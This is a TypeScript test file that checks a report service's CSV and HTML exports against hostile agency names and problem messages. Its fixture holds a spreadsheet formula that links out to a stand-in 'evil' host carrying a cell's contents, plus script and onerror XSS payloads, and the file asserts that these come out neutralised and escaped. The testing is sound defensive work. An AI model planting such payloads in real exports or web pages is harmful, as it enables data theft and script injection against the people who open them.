import { createAgencyDirectory } from '../../src/services/agencies/loadAgencyDirectory';
import type { ReportJob } from '../../src/services/reports/ReportService';
import { reportCsv, reportHtml } from '../../src/services/reports/outputs';

const hostile = '=HYPERLINK("http://evil/?x="&A1,"click") <script>alert(1)</script>';
const directory = createAgencyDirectory([
  {
    code: '000.00.01.H56',
    name: hostile,
    level: 2,
    parent: null,
    validFrom: null,
    validTo: null,
    successors: [],
  },
]);

const job: ReportJob = {
  id: 'r1',
  spec: { agencies: ['H56'], from: '2026-07-01', to: '2026-09-30' },
  state: 'DONE',
  requestedBy: 'key:1',
  createdAt: new Date(),
  startedAt: new Date(),
  finishedAt: new Date(),
  progress: {
    agenciesTotal: 1,
    agenciesDone: 1,
    pages: 1,
    dossiers: 3,
    percent: 100,
    etaSeconds: 0,
  },
  problems: ['000.00.01.H56: <img src=x onerror=alert(2)> answered the same page twice'],
  result: {
    received: 3,
    byStatus: { '4': 1, '10': 2 },
    byChannel: { '1': 1, '2': 2 },
    onTime: { judged: 3, onTime: 2, late: 1, rate: 2 / 3, unknown: 0 },
    overdue: [
      {
        code: '000.00.01.H56-260701-0001',
        agencyCode: '000.00.01.H56',
        lateByHours: 5,
        state: 'LATE',
      },
    ],
    online: { count: 2, rate: 2 / 3 },
    onTheSpot: { count: 0, rate: 0 },
    agencies: [
      {
        agencyCode: '000.00.01.H56',
        received: 3,
        judged: 3,
        late: 1,
        onTheSpot: 0,
        onTimeRate: 2 / 3,
        overdueRate: 1 / 3,
        onlineRate: 2 / 3,
      },
    ],
    months: [{ month: '2026-07', received: 3, judged: 3, onTime: 2, rate: 2 / 3 }],
    complete: false,
    onTheSpotTargets: [],
  },
};

describe('Report outputs with hostile upstream text', () => {
  it('CSV: a name a spreadsheet would run as a formula is neutralised and quoted', () => {
    const csv = reportCsv(job, directory);
    const row = csv.split('\r\n')[1] as string;
    expect(row.startsWith(`000.00.01.H56,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")`)).toBe(
      true,
    );
    expect(csv.split('\r\n').at(-2)).toBe('TOTAL,,3,3,2,1,0.6667,0.6667');
  });

  it('HTML: every upstream text escaped, nothing may load or run', () => {
    const html = reportHtml(job, directory);
    expect(html).not.toContain('<script>alert');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('&lt;img src=x onerror=alert(2)&gt;');
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
  });
});
